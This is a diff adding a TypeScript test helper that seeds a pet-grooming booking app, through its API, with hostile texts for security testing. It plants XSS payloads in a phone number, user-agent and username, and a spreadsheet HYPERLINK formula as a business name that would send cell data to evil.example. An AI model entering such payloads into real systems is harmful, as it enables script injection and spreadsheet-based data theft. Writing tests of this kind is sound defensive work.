@@ -1,0 +1,170 @@
+import type { BookingView } from "#src/shared/bookings.ts";
+import type { Server } from "#tests/support/server.ts";
+import { signIn, type Walker } from "#tests/support/walks.ts";
+import { nextOpenDay, signUpFields } from "../people.ts";
+import { dealer } from "./evil-texts.ts";
+
+const deal = dealer();
+const word = () => deal(90);
+/** As many as the field takes. */
+const all = (most: number) => deal(most - 1);
+const phoneNumber = "<svg onload=__xss=1>8285550100";
+
+export interface Planted {
+  groomerId: number;
+  groomerUserId: number;
+  parentUserId: number;
+  newcomerUserId: number;
+  /** The groomer whom the review is about. */
+  reviewedId: number;
+  bookingId: number;
+}
+
+/** Writes evil texts, through the API, into every field that shows what people wrote. */
+export async function plant(server: Server): Promise<Planted> {
+  const parent = await caller(server, "demo_parent");
+  const groomer = await caller(server, "demo_groomer");
+  const admin = await caller(server, "admin");
+  const { id: groomerUserId, groomerId } = await groomer<{ id: number; groomerId: number }>("GET", "/api/user");
+  const { id: parentUserId } = await parent<{ id: number }>("GET", "/api/user");
+
+  await asGroomer(groomer, groomerUserId, groomerId);
+  await withEvilBrowser(server);
+  const { bookingId, agreedId } = await asParent(server, parent, parentUserId, groomerId);
+  const reviewedId = await writesReview(parent);
+  await groomer("PATCH", `/api/bookings/${agreedId}/status`, { status: "accepted" });
+  await answersRequests(groomer, [bookingId, agreedId]);
+  const newcomerUserId = await newcomer(server);
+  await asAdmin(admin, { groomerId, newcomerUserId });
+  return { groomerId, groomerUserId, parentUserId, newcomerUserId, reviewedId, bookingId };
+}
+
+type Call = <T = unknown>(method: string, path: string, body?: unknown) => Promise<T>;
+
+const caller = async (server: Server, walker: Walker) => callWith(server, await signIn(server.url, walker));
+
+/** Calls of somebody who is signed in. They throw when one is refused: the text would be missing. */
+function callWith({ url }: Server, cookie: string): Call {
+  return async <T>(method: string, path: string, body?: unknown) => {
+    const headers = { cookie, "content-type": "application/json" };
+    const response = await fetch(url + path, { method, headers, ...(body ? { body: JSON.stringify(body) } : {}) });
+    const text = await response.text();
+    if (!response.ok) throw new Error(`${method} ${path}: ${response.status} ${text}`);
+    return (text === "" ? undefined : JSON.parse(text)) as T;
+  };
+}
+
+/** The list of signed-in browsers shows what each calls itself. */
+const withEvilBrowser = ({ url }: Server) =>
+  fetch(`${url}/api/demo-login`, {
+    method: "POST",
+    headers: { "content-type": "application/json", "user-agent": "<img src=x onerror=__xss=1>" },
+    body: JSON.stringify({ username: "demo_groomer" }),
+  });
+
+interface Place {
+  id: number;
+  state: string;
+  zipCode: string;
+}
+
+async function asGroomer(call: Call, userId: number, groomerId: number) {
+  await account(call, userId, { serviceRadius: 30 });
+  const profile = { businessName: word(), description: all(2000), showPhone: true, showEmail: true };
+  await call("PATCH", `/api/groomer-profiles/${groomerId}`, profile);
+  for (const { id } of await call<Place[]>("GET", `/api/service-packages/${groomerId}`)) {
+    await call("PATCH", `/api/service-packages/${id}`, { name: word(), description: all(1000) });
+  }
+  for (const { id } of await call<Place[]>("GET", `/api/add-on-services/${groomerId}`)) {
+    await call("PATCH", `/api/add-on-services/${id}`, { name: word(), description: all(300) });
+  }
+  for (const { id } of await call<Place[]>("GET", `/api/portfolio-images?groomerId=${groomerId}`)) {
+    await call("PATCH", `/api/portfolio-images/${id}`, { caption: all(200) });
+  }
+  const startDate = new Date(Date.now() + 300 * 86_400_000).toISOString().slice(0, 10);
+  await call("POST", "/api/unavailable-ranges", { startDate, endDate: startDate, note: all(200) });
+}
+
+async function account(call: Call, userId: number, more: object = {}) {
+  await call("PATCH", `/api/users/${userId}`, { fullName: word(), phoneNumber });
+  const { id, state, zipCode } = await call<Place>("GET", `/api/locations/${userId}`);
+  await call("PATCH", `/api/locations/${id}`, { address: all(200), city: deal(80), state, zipCode, ...more });
+}
+
+/** Pets, a request with them that stays open, one to be accepted, and one that is called off. */
+async function asParent(server: Server, call: Call, userId: number, groomerId: number) {
+  await account(call, userId);
+  const pets = await call<{ id: number }[]>("GET", "/api/pets");
+  for (const { id } of pets) {
+    const texts = { medicalInfo: all(1000), healthIssues: all(1000), specialInstructions: all(1000) };
+    await call("PATCH", `/api/pets/${id}`, { name: deal(60), breed: deal(80), ...texts });
+  }
+  const [offer] = await call<{ id: number }[]>("GET", `/api/service-packages/${groomerId}`);
+  const addOns = await call<{ id: number }[]>("GET", `/api/add-on-services/${groomerId}`);
+  const request = {
+    groomerId,
+    servicePackageId: offer!.id,
+    addOnServiceIds: addOns.slice(0, 2).map(({ id }) => id),
+    petIds: pets.slice(0, 2).map(({ id }) => id),
+    preferredDate: await nextOpenDay(server.url, `/groomer/${groomerId}`),
+    preferredTimeSlot: "Morning (8AM - 12PM)",
+    serviceAddress: all(200),
+    serviceCity: deal(80),
+    serviceState: "NC",
+    serviceZipCode: "28801",
+  };
+  const ask = (name: string) => {
+    const texts = { petInfo: `${name}\n${all(1900)}`, specialInstructions: all(2000) };
+    return call<{ id: number }>("POST", "/api/bookings", { ...request, ...texts });
+  };
+  const [open, agreed, off] = [await ask("Waffles"), await ask("Pickle"), await ask("Olive")];
+  await call("PATCH", `/api/bookings/${off.id}/status`, { status: "cancelled", reason: all(300) });
+  return { bookingId: open.id, agreedId: agreed.id };
+}
+
+/** Gives the id of the groomer it is about. */
+async function writesReview(call: Call): Promise<number> {
+  const bookings = await call<BookingView[]>("GET", "/api/bookings/pet-parent");
+  const visit = bookings.find(({ status, hasReview }) => status === "completed" && !hasReview);
+  if (!visit) throw new Error("The demo has no visit to review");
+  await call("POST", "/api/reviews", { bookingId: visit.id, rating: 4, comment: all(2000) });
+  return visit.groomerId;
+}
+
+/** One of the demo's is declined and one called off; the evil ones stay as they are, with their texts shown in full. */
+async function answersRequests(call: Call, evilIds: number[]) {
+  const bookings = (await call<BookingView[]>("GET", "/api/bookings/groomer")).filter(
+    ({ id }) => !evilIds.includes(id),
+  );
+  const open = bookings.find(({ status }) => status === "pending");
+  const agreed = bookings.find(({ status, actions }) => status === "accepted" && actions.includes("cancel"));
+  if (!open || !agreed) throw new Error("The demo groomer has no request to answer");
+  await call("PATCH", `/api/bookings/${open.id}/status`, { status: "declined", reason: all(300) });
+  await call("PATCH", `/api/bookings/${agreed.id}/status`, { status: "cancelled", reason: all(300) });
+  await call("POST", "/api/membership/cancel", { reason: all(500) });
+}
+
+/** A groomer whose very username is markup, and whose business a spreadsheet would run. */
+async function newcomer(server: Server): Promise<number> {
+  const fields = { ...signUpFields("newcomer"), role: "groomer", username: "<img/src=x/onerror=__xss=1>" };
+  const response = await fetch(`${server.url}/api/register`, {
+    method: "POST",
+    headers: { "content-type": "application/json" },
+    body: JSON.stringify({ ...fields, fullName: word(), city: deal(80), phoneNumber }),
+  });
+  const { id } = (await response.json()) as { id: number };
+  const cookie = response.headers.getSetCookie()[0]!.split(";")[0]!;
+  const call = callWith(server, cookie);
+  const businessName = `=HYPERLINK("https://evil.example?"&A1)`;
+  await call("POST", "/api/groomer-profiles", { businessName, description: all(2000) });
+  return id;
+}
+
+async function asAdmin(call: Call, { groomerId, newcomerUserId }: Pick<Planted, "groomerId" | "newcomerUserId">) {
+  await call("PATCH", `/api/admin/background-checks/${groomerId}`, {
+    status: "passed",
+    date: "2026-01-02",
+    note: all(500),
+  });
+  await call("PATCH", `/api/admin/users/${newcomerUserId}/suspension`, { suspended: true, reason: all(500) });
+}
